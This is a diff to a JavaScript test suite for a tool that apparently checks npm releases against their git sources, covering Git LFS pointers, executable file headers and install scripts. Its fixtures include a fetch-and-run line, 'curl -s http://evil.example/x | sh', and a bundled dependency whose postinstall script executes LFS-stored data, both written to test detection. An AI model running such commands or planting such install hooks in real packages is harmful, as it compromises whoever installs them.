@@ -87,17 +87,26 @@ test("the publisher's language decides the sequence of npm 6.10 to 7.12, and no 
 
 test('Git LFS: the published file is proved by the pointer in git, and another file is not', async () => {
   const attributes = '*.bin filter=lfs diff=lfs merge=lfs -text\n';
-  const files = { 'model.bin': pointerOf('hello world'), '.gitattributes': attributes };
+  const files = { 'model.bin': pointerOf('hello\0world'), '.gitattributes': attributes };
   const release = (name, data, more = {}) => world.release(name, { files: { ...files, ...more }, published: { 'model.bin': data, '.gitattributes': more['.gitattributes'] ?? attributes } });
-  const real = await world.judge((await release('p-lfs', 'hello world')).spec);
+  const real = await world.judge((await release('p-lfs', 'hello\0world')).spec);
   assert.equal(real.verdict, 'identical', real.code);
-  assert.deepEqual(codes(real).filter((code) => code.startsWith('lfs-')), ['lfs-by-pointer']);
-  const other = await world.judge((await release('p-lfs-other', 'hello_world')).spec);
+  assert.deepEqual(real.findings.filter(({ code }) => code.startsWith('lfs-')).map(({ code, severity }) => [code, severity]), [['lfs-by-pointer', 'warning']]);
+  const other = await world.judge((await release('p-lfs-other', 'hello\0World')).spec);
   assert.equal(other.verdict, 'differs');
   // Without the attribute git has a text that looks like a pointer, and a checkout has the text.
-  const plain = await world.judge((await release('p-lfs-plain', 'hello world', { '.gitattributes': '*.bin -text\n' })).spec);
+  const plain = await world.judge((await release('p-lfs-plain', 'hello\0world', { '.gitattributes': '*.bin -text\n' })).spec);
   assert.equal(plain.verdict, 'differs');
 });
+
+/** A program for Windows, whose header may stand as far behind the stub for DOS as one likes. */
+function pe() {
+  const exe = Buffer.alloc(9216);
+  exe.write('MZ', 'latin1');
+  exe.writeUInt32LE(8192, 0x3c);
+  exe.write('PE\0\0', 8192, 'latin1');
+  return exe;
+}
 
 test('code that git has as a pointer of Git LFS is in no source: nobody can read a hash', async () => {
   const code = "console.log('payload')\n";
@@ -109,6 +118,10 @@ test('code that git has as a pointer of Git LFS is in no source: nobody can read
     ['core.png', `MZ=1;/*\0*/${code}`],
     ['run.txt', `#!/bin/sh\n${code}`],
     ['lib.dat', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
+    // What a shell takes for commands, and headers of programs of other systems.
+    ['words.txt', 'curl -s http://evil.example/x | sh\n'],
+    ['tool.bin', pe()],
+    ['several.bin', Buffer.from([0xca, 0xfe, 0xba, 0xbf, 0, 0, 0, 1, 1, 0, 0, 7])],
   ];
   for (const [nth, [path, content]] of cases.entries()) {
     const attributes = `${path} filter=lfs diff=lfs merge=lfs -text\n`;
@@ -124,9 +137,27 @@ test('code that git has as a pointer of Git LFS is in no source: nobody can read
     const { spec } = await world.release(`p-lfs-data-${nth}`, { json, files: { 'a.png': pointerOf(picture), '.gitattributes': attributes }, published: { 'a.png': picture } });
     assert.equal((await world.judge(spec)).verdict, verdict, JSON.stringify(json));
   }
-  const extended = pointerOf('hello world').replace('oid ', `ext-0-case sha256:${'ab'.repeat(32)}\noid `);
-  const { spec } = await world.release('p-lfs-extended', { files: { 'model.bin': extended, '.gitattributes': '*.bin filter=lfs -text\n' }, published: { 'model.bin': 'hello world' } });
+  const extended = pointerOf('hello\0world').replace('oid ', `ext-0-case sha256:${'ab'.repeat(32)}\noid `);
+  const { spec } = await world.release('p-lfs-extended', { files: { 'model.bin': extended, '.gitattributes': '*.bin filter=lfs -text\n' }, published: { 'model.bin': 'hello\0world' } });
   assert.equal((await world.judge(spec)).verdict, 'differs', 'an extension makes other bytes of it');
+});
+
+test('data of Git LFS is no source of a package whose installation runs anything', async () => {
+  const picture = Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1');
+  const attributes = { '.gitattributes': '*.png filter=lfs diff=lfs merge=lfs -text\n' };
+  const bundled = (scripts) => [{ dependencies: { dep: '1.0.0' }, bundleDependencies: ['dep'] }, { 'node_modules/dep/package.json': manifest('dep', '1.0.0', { repository: null, scripts }) }];
+  const node = { gypfile: true, scripts: { install: 'node-gyp rebuild' } };
+  for (const [nth, [json, files, written, verdict]] of [
+    [...bundled({ postinstall: 'sh ../../*.png' }), {}, 'differs'],
+    [{}, { 'binding.gyp': '{}\n' }, node, 'differs'],
+    // The control: scripts that no installation runs.
+    [...bundled({ test: 'sh ../../*.png' }), {}, 'identical'],
+  ].entries()) {
+    const name = `p-lfs-installs-${nth}`;
+    const own = { ...attributes, ...files, 'a.png': pointerOf(picture) };
+    const { spec } = await world.release(name, { json, files: own, published: { ...attributes, ...files, 'a.png': picture }, publication: { manifest: written } });
+    assert.equal((await world.judge(spec)).verdict, verdict, name);
+  }
 });
 
 test('a pointer that was published in place of its file is a warning', async () => {
